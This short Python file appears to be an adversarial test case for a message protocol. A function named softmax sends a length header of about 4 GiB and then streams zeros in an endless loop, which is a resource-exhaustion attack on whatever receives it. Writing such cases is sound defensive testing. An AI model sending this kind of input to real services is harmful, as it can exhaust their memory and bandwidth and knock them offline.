# /// attack
# does = "claims a header of 4 GiB, and sends zeros for ever"
# own = { softmax = ["protocol"] }
# forger = true
# ///
"""The same with the other length, and a stream behind it that is never read."""

import struct


def softmax(logits):
    send(struct.pack("<IQ", (1 << 32) - 1, 0))
    while True:
        send(bytes(1 << 16))
